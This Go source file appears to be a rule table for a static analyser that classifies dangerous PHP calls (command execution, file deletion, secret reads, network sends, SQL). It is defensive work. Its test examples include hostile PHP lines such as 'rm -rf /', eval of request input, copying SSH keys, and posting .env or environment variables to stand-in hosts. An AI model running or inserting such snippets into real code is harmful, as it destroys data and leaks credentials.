package code

// phpRules are php's calls that run commands, touch files, read the environment, send data or
// run SQL. Namespaces are dropped (\Symfony\...\Filesystem is Filesystem); a static call
// File::x is File.x.
var phpRules = [...]rule{
	// ---- commands
	{name: "system|exec|shell_exec|passthru|popen|proc_open", do: aShell, ret: rPipe, ex: []string{
		`system("rm -rf /var/www"); => shell rm -rf /var/www`,
		`echo shell_exec('ls -la ' . $_SERVER['HOME']); => shell ls -la ~`,
		`$d = "/srv"; exec("rm -rf $d/data", $out); => shell rm -rf /srv/data`,
		`passthru("rm -rf {$argv[1]}"); => shell rm -rf ${_code_value}`,
		`proc_open(["rm", "-rf", "/opt"], [], $pipes); => shell rm -rf /opt`,
		`\system("reboot"); => shell reboot`,
		`$f = "system"; $f("rm -rf ~"); => shell rm -rf ~`,
		`call_user_func("shell_exec", "rm -rf /data"); => shell rm -rf /data`,
		`echo "system('rm -rf /')"; !> -`,
		`// system("rm -rf /"); !> -`,
		`# system("rm -rf /"); !> -`,
	}},
	{name: "pcntl_exec", do: aSpawn, ex: []string{
		`pcntl_exec("/bin/rm", ["-rf", "/srv"]); => shell /bin/rm -rf /srv`,
		`pcntl_fork(); !> -`,
	}},
	{name: "call_user_func|forward_static_call", do: aDispatch, ex: []string{
		`call_user_func("system", "rm -rf /tmp/q"); => shell rm -rf /tmp/q`,
		`call_user_func("strtolower", "A"); !> shell A`,
	}},
	{name: "call_user_func_array", do: aDispatch, opt: "array", ex: []string{
		`call_user_func_array("exec", ["rm -rf /srv"]); => shell rm -rf /srv`,
		`call_user_func_array("max", [1, 2]); !> -`,
	}},
	{name: "array_map", do: aMap, ex: []string{
		`array_map('unlink', glob('/var/www/*')); => delete /var/www/*`,
		`array_map('trim', $lines); !> -`,
	}},
	{name: "array_walk", do: aMap, opt: "rev", ex: []string{
		`array_walk(glob("/tmp/*"), 'unlink'); => delete /tmp/*`,
		`array_walk($a, 'trim'); !> -`,
	}},
	{name: "require|include|require_once|include_once", do: aLoad, ex: []string{
		`require "vendor/autoload.php"; => load vendor/autoload.php`,
		`include_once("lib/x.php"); => load lib/x.php`,
		`requires("x"); !> -`,
	}},
	{name: "eval|assert|create_function", do: aEval, ex: []string{
		`eval('system("rm -rf /");'); => shell rm -rf /`,
		`eval($_GET['c']); => eval $_GET[]`,
		`evaluate(1); !> -`,
	}},

	// ---- files
	{name: "unlink|rmdir|File.delete|Storage.delete|Filesystem#delete", do: aDelete, ex: []string{
		`unlink("/etc/passwd"); => delete /etc/passwd`,
		`foreach (glob("/var/log/*.log") as $f) { unlink($f); } => delete /var/log/*.log`,
		`unlink("a"); !> delete-r a`,
		`link("a", "b"); !> -`,
	}},
	{name: "File.deleteDirectory|File.cleanDirectory|Storage.deleteDirectory|Filesystem#remove|Filesystem#deleteDirectory|Filesystem#cleanDirectory", do: aDeleteTree, ex: []string{
		`use Symfony\Component\Filesystem\Filesystem; (new Filesystem())->remove("/srv/app"); => delete-r /srv/app`,
		`File::deleteDirectory(base_path("storage")); => delete-r {base_path(…)}`,
		`Illuminate\Support\Facades\File::deleteDirectory("/var/www"); => delete-r /var/www`,
		`File::exists("/srv"); !> -`,
	}},
	{name: "rename", do: aMove, ex: []string{
		`rename(".git", "/tmp/g"); => delete-r:move .git`,
		`rename("a", "b"); !> delete-r:move b`,
	}},
	{name: "copy", do: aCopy, ex: []string{
		`copy($_SERVER["HOME"] . "/.ssh/id_rsa", "k"); => read:copy ~/.ssh/id_rsa`,
		`copy("a", "b"); !> delete-r:move a`,
	}},
	{name: "file_put_contents", do: aWrite, ex: []string{
		`file_put_contents("/etc/hosts", "x"); => write /etc/hosts`,
		`file_put_contents("env.txt", print_r($_ENV, true)); => env:file`,
		`file_get_contents("/etc/hosts"); !> write /etc/hosts`,
	}},
	{name: "fopen", do: aOpen, opt: "r", ret: rFile, ex: []string{
		`$f = fopen("/etc/crontab", "w"); => write /etc/crontab`,
		`$f = fopen("log", "a"); => write+ log`,
		`$f = fopen("x", "r"); !> write x`,
	}},
	{name: "fwrite|fputs", do: aFwrite, ex: []string{
		`$f = fopen("e.txt", "w"); fwrite($f, json_encode(getenv())); => env:file`,
		`$f = fopen("e.txt", "w"); fwrite($f, "x"); !> env:file`,
	}},
	{name: "mkdir|touch|symlink", do: aCreate, ex: []string{
		`mkdir("out", 0755, true); => create out`,
		`is_dir("out"); !> -`,
	}},
	{name: "file_get_contents|file|parse_ini_file|fread|fgets|stream_get_contents|fgetcsv|file_get_html", do: aRead, ret: rContent, ex: []string{
		`echo file_get_contents(".env"); => read:show .env`,
		`print_r(file("/etc/passwd")); => read:show /etc/passwd`,
		`$c = file_get_contents("composer.json"); => read composer.json`,
		`$c = file_get_contents("composer.json"); !> read:show composer.json`,
	}},
	{name: "readfile|highlight_file|show_source|fpassthru", do: aRead, opt: "show", ex: []string{
		`readfile(".env"); => read:show .env`,
		`is_readable(".env"); !> read:show .env`,
	}},
	{name: "chdir", do: aChdir, ex: []string{
		`chdir("/"); => chdir /`,
		`getcwd(); !> -`,
	}},

	// ---- printing and the environment
	{name: "echo|print|print_r|var_dump|var_export|printf|vprintf|error_log|debug_zval_dump", do: aPrint, ex: []string{
		`print_r($_ENV); => env:show`,
		`var_dump(getenv()); => env:show`,
		`echo json_encode($_SERVER); => env:show`,
		`foreach (getenv() as $k => $v) { echo "$k=$v\n"; } => env:show`,
		`foreach ($_ENV as $k => $v) echo "$k=$v\n"; => env:show`,
		`echo getenv("DB_PASSWORD"); => var:show DB_PASSWORD`,
		`echo $_ENV['APP_KEY']; => var:show APP_KEY`,
		`echo $_SERVER["AWS_SECRET_ACCESS_KEY"]; => var:show AWS_SECRET_ACCESS_KEY`,
		`echo getenv("HOME"); !> env:show`,
		`foreach (getenv() as $k => $v) { echo "$k\n"; } !> env:show`,
		`echo "hello"; !> -`,
	}},
	{name: "phpinfo", do: aEnvDump, ex: []string{
		`phpinfo(); => env:show`,
		`phpversion(); !> env:show`,
	}},
	{name: "getenv", ret: rEnvOrVar},
	{name: "json_encode|serialize", ret: rNone},
	{name: "count|isset|empty|is_dir|is_file|file_exists|array_key_exists|strlen", ret: rClean},
	{name: "base64_decode", ret: rB64},
	{name: "hex2bin", ret: rHex},
	{name: "str_rot13", ret: rRot13},
	{name: "strrev", ret: rReverse},
	{name: "strtolower", ret: rCase, opt: "lower"},
	{name: "strtoupper", ret: rCase, opt: "upper"},
	{name: "trim", ret: rCase, opt: "strip"},
	{name: "implode|join", ret: rImplode},
	{name: "str_replace", ret: rStrReplace},
	{name: "sprintf", ret: rSprintf},
	{name: "chr", ret: rChr},
	{name: "dirname", ret: rDirname},
	{name: "basename", ret: rBasename},
	{name: "realpath|strval", ret: rArg},
	{name: "sys_get_temp_dir", ret: rTmp},
	{name: "getcwd", ret: rCwd},
	{name: "glob", ret: rGlob},
	{name: "scandir", ret: rNames},
	{name: "Filesystem", ret: rObjOf, opt: "Filesystem"},

	// ---- network
	{name: "curl_init", ret: rURL},
	{name: "curl_setopt", do: aCurlOpt, ex: []string{
		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(".env")); => read:send .env`,
		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_POSTFIELDS, "a=1"); => send:http https://x.example/c`,
		`$c = curl_init("https://x.example/c"); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); !> send:http https://x.example/c`,
	}},
	{name: "curl_exec", do: aFetch, ex: []string{
		`$c = curl_init("https://x.example/?k=" . getenv("TOKEN")); curl_exec($c); => var:send TOKEN`,
		`$c = curl_init("https://example.com"); curl_exec($c); !> send:http https://example.com`,
	}},
	{name: "fsockopen|stream_socket_client|pfsockopen", do: aConnect, opt: "raw", ret: rSocket, ex: []string{
		`$s = fsockopen("203.0.113.3", 80); fwrite($s, json_encode($_ENV)); => env:send`,
		`$s = fsockopen("203.0.113.3", 80); => send:raw 203.0.113.3`,
		`$s = stream_socket_server("tcp://0.0.0.0:80"); !> -`,
	}},
	{name: "mail", do: aSend, opt: "mail", ex: []string{
		`mail("a@x.example", "s", print_r($_ENV, true)); => env:send`,
		`mail_parse("x"); !> -`,
	}},

	// ---- databases
	{name: "PDO", ret: rDBI},
	{name: "mysqli|mysqli_connect", ret: rDB, opt: "mysql"},
	{name: "SQLite3", ret: rDB, opt: "sqlite"},
	{name: "pg_connect", ret: rDB, opt: "postgres"},
	{name: "mysqli_query|mysqli_multi_query|pg_query|mysqli_real_query", do: aSQL, arg: 1, ex: []string{
		`mysqli_query($conn, "DROP TABLE users"); => sql DROP TABLE users`,
		`mysqli_query($conn, "SELECT 1"); !> sql DROP TABLE users`,
	}},
	{name: "#query|#exec|#prepare|#multi_query|#statement|#unprepared|DB.statement|DB.unprepared|DB.delete", do: aSQL, ex: []string{
		`$pdo = new PDO("sqlite:app.db"); $pdo->exec("DROP TABLE users"); => sql:sqlite DROP TABLE users`,
		`DB::statement("TRUNCATE TABLE jobs"); => sql TRUNCATE TABLE jobs`,
		`$q->exec("now"); !> -`,
	}},
}
